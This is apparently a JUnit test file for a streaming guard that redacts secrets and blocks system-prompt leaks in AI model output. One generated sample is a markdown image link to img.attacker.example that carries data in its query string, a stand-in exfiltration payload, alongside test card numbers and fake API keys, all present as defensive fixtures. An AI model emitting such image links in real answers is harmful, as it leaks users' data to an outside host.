package dev.aisecurity.guard.stream;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import dev.aisecurity.guard.Decision;
import dev.aisecurity.guard.Direction;
import dev.aisecurity.guard.GuardMode;
import dev.aisecurity.guard.GuardPipeline;
import dev.aisecurity.guard.GuardPipelines;
import dev.aisecurity.guard.ScanContext;
import dev.aisecurity.guard.Scanner;
import dev.aisecurity.guard.Verdict;
import dev.aisecurity.guard.leak.Canary;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class StreamingGuardTests {

	private static final String[] WORDS = { "the", "invoice", "was", "sent", "to", "our", "customer", "yesterday",
			"and", "payment", "is", "due", "within", "thirty", "days", "please", "contact", "support", "if", "you",
			"have", "questions", "about", "refunds", "or", "plans", "Spring", "AI", "makes", "this", "easy", "—",
			"naïve", "café", "😀", "data", "x" };

	private static final String[] CARDS = { "4111 1111 1111 1111", "5500-0000-0000-0004", "4012888888881881",
			"3782 822463 10005" };

	static GuardPipeline pipeline(GuardMode mode) {
		List<Scanner> scanners = new ArrayList<>(GuardPipelines.defaultOutputScanners());
		scanners.add(TestScanners.email());
		scanners.add(TestScanners.card());
		scanners.add(TestScanners.apiKey());
		return GuardPipeline.builder().direction(Direction.OUTPUT).mode(mode).scanners(scanners).build();
	}

	private final GuardPipeline pipeline = pipeline(GuardMode.ENFORCE);

	private final StreamingGuard guard = StreamingGuard.builder(this.pipeline).build();

	/** A model-like answer with entities, and the raw entities it contains. */
	record Sample(String text, List<String> secrets) {
	}

	static Sample sample(Random random) {
		StringBuilder sb = new StringBuilder();
		List<String> secrets = new ArrayList<>();
		int words = 20 + random.nextInt(200);
		for (int i = 0; i < words; i++) {
			int pick = random.nextInt(40);
			String piece;
			if (pick == 0) {
				piece = name(random) + "." + name(random) + "@" + name(random) + ".example.com";
				secrets.add(piece);
			}
			else if (pick == 1) {
				piece = CARDS[random.nextInt(CARDS.length)];
				secrets.add(piece);
				piece = piece + " ok"; // keep digits of neighbours apart
			}
			else if (pick == 2) {
				piece = "sk-" + token(random, 24 + random.nextInt(20));
				secrets.add(piece);
			}
			else if (pick == 5) {
				// AWS access key id, found by the secret scanner on main
				StringBuilder key = new StringBuilder("AKIA");
				for (int k = 0; k < 16; k++) {
					key.append("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".charAt(random.nextInt(32)));
				}
				piece = key.toString();
				secrets.add(piece);
			}
			else if (pick == 6) {
				piece = "sk-proj-" + token(random, 40);
				secrets.add(piece);
			}
			else if (pick == 3) {
				String data = token(random, 16 + random.nextInt(30));
				piece = "![status chart](https://img.attacker.example/p.png?d=" + data + ")";
				secrets.add(data);
			}
			else if (pick == 4) {
				piece = "[the docs](https://docs.spring.io/spring-ai/reference/index.html)";
			}
			else {
				piece = WORDS[random.nextInt(WORDS.length)];
			}
			sb.append(piece);
			int sep = random.nextInt(12);
			sb.append(sep == 0 ? "\n" : (sep == 1 ? ". " : (sep == 2 ? ", " : " ")));
		}
		return new Sample(sb.toString(), secrets);
	}

	private static String name(Random random) {
		return token(random, 3 + random.nextInt(6)).toLowerCase();
	}

	private static String token(Random random, int length) {
		String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
		StringBuilder sb = new StringBuilder(length);
		for (int i = 0; i < length; i++) {
			sb.append(alphabet.charAt(random.nextInt(alphabet.length())));
		}
		return sb.toString();
	}

	static List<String> chunk(String text, Random random, int maxChunk) {
		List<String> chunks = new ArrayList<>();
		int i = 0;
		while (i < text.length()) {
			int end = Math.min(text.length(), i + 1 + random.nextInt(maxChunk));
			chunks.add(text.substring(i, end));
			i = end;
		}
		return chunks;
	}

	@Test
	void streamedResultEqualsWholeTextResultAndNothingLeaksEarly() {
		int redactedSamples = 0;
		for (int seed = 0; seed < 200; seed++) {
			Random random = new Random(seed);
			Sample sample = sample(random);
			Verdict whole = this.pipeline.scan(sample.text(), ScanContext.output());
			assertThat(whole.decision()).as("seed %d", seed).isNotEqualTo(Decision.BLOCK);
			String expected = whole.text();
			if (!expected.equals(sample.text())) {
				redactedSamples++;
			}
			int maxChunk = (seed % 10 == 0) ? 1 : 1 + random.nextInt(40);
			StreamingGuard.Session session = this.guard.open(ScanContext.output());
			StringBuilder out = new StringBuilder();
			for (String chunk : chunk(sample.text(), random, maxChunk)) {
				StreamingGuard.Emission emission = session.accept(chunk);
				assertThat(emission.isBlocked()).isFalse();
				out.append(emission.text());
				// what went out is always a prefix of the fully redacted answer
				assertThat(expected).as("seed %d", seed).startsWith(out);
				for (String secret : sample.secrets()) {
					assertThat(out.toString()).as("seed %d", seed).doesNotContain(secret);
				}
				assertThat(session.held()).isLessThanOrEqualTo(StreamingGuard.DEFAULT_HOLD + maxChunk);
			}
			out.append(session.finish().text());
			assertThat(out.toString()).as("seed %d", seed).isEqualTo(expected);
			assertThat(session.held()).isZero();
		}
		// the samples really contained entities to redact
		assertThat(redactedSamples).isGreaterThan(160);
	}

	@Test
	void entitySplitAcrossChunksIsCaught() {
		List<String> chunks = List.of("Write to ", "john.do", "e@example.com", " for help, he answers within the day ",
				"and is usually quick about it.");
		StreamingGuard.Session session = this.guard.open(ScanContext.output());
		StringBuilder out = new StringBuilder();
		for (String chunk : chunks) {
			out.append(session.accept(chunk).text());
			assertThat(out.toString()).doesNotContain("john");
		}
		out.append(session.finish().text());
		String whole = this.pipeline.scan(String.join("", chunks), ScanContext.output()).text();
		assertThat(out.toString()).isEqualTo(whole)
			.startsWith("Write to <EMAIL")
			.endsWith("> for help, he answers within the day and is usually quick about it.");
	}

	@Test
	void firstTextGoesOutEarly() {
		String text = "word ".repeat(400);
		StreamingGuard.Session session = this.guard.open(ScanContext.output());
		long receivedAtFirstEmission = -1;
		for (String chunk : chunk(text, new Random(7), 6)) {
			if (!session.accept(chunk).text().isEmpty() && receivedAtFirstEmission < 0) {
				receivedAtFirstEmission = session.received();
			}
		}
		assertThat(receivedAtFirstEmission).isPositive()
			.isLessThanOrEqualTo(StreamingGuard.DEFAULT_LOOKAHEAD + StreamingGuard.DEFAULT_MIN_RELEASE + 2 * 6L + 5);
		assertThat(session.maxHeld())
			.isLessThan(StreamingGuard.DEFAULT_LOOKAHEAD + StreamingGuard.DEFAULT_MIN_RELEASE + 20);
	}

	@Test
	void longRunsWithoutWhitespaceAreReleasedAtTheHold() {
		String text = "x".repeat(5000);
		StreamingGuard.Session session = this.guard.open(ScanContext.output());
		StringBuilder out = new StringBuilder();
		for (String chunk : chunk(text, new Random(3), 10)) {
			out.append(session.accept(chunk).text());
			assertThat(session.held()).isLessThanOrEqualTo(StreamingGuard.DEFAULT_HOLD + 10);
		}
		out.append(session.finish().text());
		assertThat(out.toString()).isEqualTo(text);
	}

	@Test
	void blockMidStreamEndsTheStreamBeforeTheLeak() {
		String canary = Canary.generate();
		String systemPrompt = Canary.embed("You are a billing assistant.", canary);
		String text = "Sure, here is everything I was told. " + "Lorem ipsum dolor sit amet. ".repeat(10)
				+ "The marker is " + canary + " and after it comes " + "more text that must never arrive. ".repeat(5);
		StreamingGuard.Session session = this.guard.open(ScanContext.output(systemPrompt));
		StringBuilder out = new StringBuilder();
		boolean blocked = false;
		for (String chunk : chunk(text, new Random(11), 5)) {
			StreamingGuard.Emission emission = session.accept(chunk);
			out.append(emission.text());
			if (emission.isBlocked()) {
				blocked = true;
				assertThat(emission.verdict().reasonCodes()).contains("SYSTEM_PROMPT_CANARY");
				break;
			}
		}
		assertThat(blocked).isTrue();
		assertThat(session.isBlocked()).isTrue();
		assertThat(out.toString()).startsWith("Sure, here is").doesNotContain(canary.substring(13, 20));
		assertThat(out.toString()).doesNotContain("never arrive");
		assertThat(session.accept("more").isBlocked()).isTrue();
		assertThat(session.finish().isBlocked()).isTrue();
	}

	@Test
	void listenersHearOneSummaryPerStreamWithEachFindingOnce() {
		List<Verdict> heard = new ArrayList<>();
		List<Scanner> scanners = new ArrayList<>(GuardPipelines.defaultOutputScanners());
		scanners.add(TestScanners.card());
		GuardPipeline listened = GuardPipeline.builder()
			.direction(Direction.OUTPUT)
			.scanners(scanners)
			.listener((context, verdict, length, nanos) -> heard.add(verdict))
			.build();
		StreamingGuard.Session session = StreamingGuard.builder(listened).build().open(ScanContext.output());
		String text = "Pay with 4111 1111 1111 1111 today. " + "Nothing else to add here. ".repeat(30);
		for (String chunk : chunk(text, new Random(9), 4)) {
			session.accept(chunk);
		}
		session.finish();
		assertThat(heard).singleElement().satisfies((verdict) -> {
			assertThat(verdict.decision()).isEqualTo(Decision.SANITIZE);
			assertThat(verdict.findings()).filteredOn((finding) -> finding.detectorId().equals("test-card")).hasSize(1);
			assertThat(verdict.text()).isEmpty();
		});
		heard.clear();
		String canary = Canary.generate();
		StreamingGuard.Session blocked = StreamingGuard.builder(listened)
			.build()
			.open(ScanContext.output(Canary.embed("You are terse.", canary)));
		for (String chunk : chunk("Here: " + canary + " " + "and more ".repeat(20), new Random(2), 4)) {
			if (blocked.accept(chunk).isBlocked()) {
				break;
			}
		}
		blocked.finish();
		assertThat(heard).singleElement().satisfies((verdict) -> assertThat(verdict.isBlocked()).isTrue());
	}

	@Test
	void splitSurrogatePairsSurvive() {
		String text = "smile 😀 please 😀😀 done " + "ok ".repeat(40);
		StreamingGuard.Session session = this.guard.open(ScanContext.output());
		StringBuilder out = new StringBuilder();
		for (int i = 0; i < text.length(); i++) {
			out.append(session.accept(text.substring(i, i + 1)).text());
		}
		out.append(session.finish().text());
		assertThat(out.toString()).isEqualTo(text);
	}

	@Test
	void monitorModeEmitsTheOriginal() {
		StreamingGuard monitor = StreamingGuard.builder(pipeline(GuardMode.MONITOR)).build();
		String text = "mail me at jane.roe@example.org or pay with 4111 1111 1111 1111 " + "fine ".repeat(30);
		StreamingGuard.Session session = monitor.open(ScanContext.output());
		StringBuilder out = new StringBuilder();
		for (String chunk : chunk(text, new Random(5), 7)) {
			out.append(session.accept(chunk).text());
		}
		out.append(session.finish().text());
		assertThat(out.toString()).isEqualTo(text);
		assertThat(session.findings()).isGreaterThanOrEqualTo(2);
	}

}
